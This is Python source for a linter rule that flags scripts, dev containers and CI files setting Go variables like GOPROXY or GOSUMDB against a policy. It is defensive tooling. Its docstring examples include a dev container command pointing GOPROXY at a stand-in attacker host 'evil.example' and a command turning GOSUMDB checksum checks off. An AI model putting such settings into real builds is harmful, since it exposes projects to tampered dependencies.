"""A command sets a Go variable to a value that the policy does not allow.

`go env -w GOSUMDB=off` changes the machine that runs it for good, `GOPROXY=direct go build` one build, and
`docker run -e` a container. A policy in `wslgo.yaml` holds for commands in scripts, makefiles, tasks, dev containers
and CI as for files of settings.

## Example

```yaml policy
policy:
  checksums: required
```

```bash path=scripts/build.sh
go env -w GOFLAGS=-trimpath GOSUMDB=off
go build ./...
```

## Example

```yaml policy
policy:
  proxies: ["https://goproxy.example.com"]
```

```json path=.devcontainer/devcontainer.json
{"postCreateCommand": "GOPROXY=https://evil.example go mod download"}
```

## No finding

An allowed value, a comment, and what is only printed:

```yaml policy
policy:
  proxies: ["https://goproxy.example.com"]
  checksums: required
```

```bash path=scripts/build.sh
# go env -w GOSUMDB=off
export GOPROXY=https://goproxy.example.com
echo "export GOSUMDB=off"
GOSUMDB=$DATABASE go build ./...
```
"""

import re
from bisect import bisect_right
from collections.abc import Iterator

from wslgo.goenv.readers import every_assignment
from wslgo.linter.finding import Finding, Severity
from wslgo.linter.policy_check import variable_findings
from wslgo.linter.rules import RuleSubject, rule
from wslgo.linter.scene import Scene
from wslgo.syntax.family import (
    COMPOSE,
    DEVCONTAINER,
    DOCKERFILE,
    ENVRC,
    FISH,
    GITLAB,
    MAKEFILE,
    MISE,
    SCRIPT,
    SETTERS,
    SHELL,
    TASKS,
    WORKFLOW,
)
from wslgo.syntax.file import File, comments
from wslgo.text.pattern import pattern
from wslgo.text.span import Span

FAMILIES = (COMPOSE, DEVCONTAINER, DOCKERFILE, ENVRC, FISH, GITLAB, MAKEFILE, MISE, SCRIPT, SHELL, TASKS, WORKFLOW)
_VARIABLE = r"(GOSUMDB|GOPROXY|GONOSUMDB|GONOPROXY|GOPRIVATE|GOINSECURE|GOTOOLCHAIN|GOFLAGS)="
_VALUE = r"(?:\"([^\"$`\\\n]*)\"|'([^'\n]*)'|([^\s\"'$`;&|<>()\\]+)(?![$`\\(]))"
_GO_ENV = pattern(r"\bgo[ \t]+env[ \t]+(?:-[a-z]+[ \t]+)*-w[ \t]([^\n;&|]*)")
_NAMED = pattern(rf"(?:(?<=[\s\"'])|^){_VARIABLE}{_VALUE}")
_OPTION = r"(?:-e|--env|--build-arg)"
_GIVEN = pattern(rf"(?:\bexport[ \t]+|(?<!\S){_OPTION}[ \t=]+|\"{_OPTION}\",[ \t]*\"){_VARIABLE}{_VALUE}")
_BEFORE_COMMAND = pattern(
    rf"(?:^|[;&|(\"'`]|-[ \t]|\bsudo[ \t]|\bsudo[ \t]-E[ \t])[ \t]*{_VARIABLE}{_VALUE}(?=[ \t])", re.MULTILINE
)
_COMMAND = pattern(r"[a-z./]")
_ASSIGNMENT = pattern(r"[A-Za-z_]+=")
_NEAR = 500  # characters around an assignment: a line can have a million
_PRINTED = pattern(r"\b(?:echo|printf)\b")


@rule(Severity.ERROR, subject=RuleSubject.SOURCE, by_entry=True)
def check(_source: object, scene: Scene) -> Iterator[Finding]:
    file = scene.file
    if scene.policy is None or file.family.name not in (*FAMILIES, *SETTERS):
        return
    known = every_assignment(file) if "GO" in file.source.text else ()
    there = {(found.name, found.value_span.start + near) for found in known for near in (-1, 0, 1)}
    ignored = tuple(sorted(comments(file)))
    for name, value, span in _settings(file):
        if (name, span.start) in there:
            continue  # the rules about variables have seen it
        after = bisect_right(ignored, span.start, key=lambda comment: comment.start)
        if any(comment.touches(span.start) for comment in ignored[max(0, after - 1) : after + 1]):
            continue
        for reported in variable_findings(name, value, scene.policy):
            yield Finding(span, reported.finding.message, related=reported.finding.related)


def _is_before_command(text: str, end: int) -> bool:
    """Return whether a command follows an assignment, possibly after other assignments."""
    words = text[end : end + _NEAR].partition("\n")[0].split()
    command = next((word for word in words if not _ASSIGNMENT.match(word)), "")
    return _COMMAND.match(command) is not None


def _settings(file: File) -> Iterator[tuple[str, str, Span]]:
    """Yield the variables that commands set, with their values and the places of these."""
    text = file.source.text
    found: dict[Span, tuple[str, str]] = {}
    if file.family.name in FAMILIES:
        places = [Span(*match.span(1)) for match in _GO_ENV.finditer(text)]
        matches = [match for place in places for match in _NAMED.finditer(text, *place)]
        matches += _GIVEN.finditer(text)
        matches += (match for match in _BEFORE_COMMAND.finditer(text) if _is_before_command(text, match.end()))
        for match in matches:
            group = next(number for number in (2, 3, 4) if match[number] is not None)
            line = text.rfind("\n", max(0, match.start() - _NEAR), match.start()) + 1
            line = line or max(0, match.start() - _NEAR)
            if not _PRINTED.search(text, line, match.start(1)):
                found[Span(*match.span(group))] = match[1], match[group]
    yield from ((name, value, span) for span, (name, value) in sorted(found.items()))
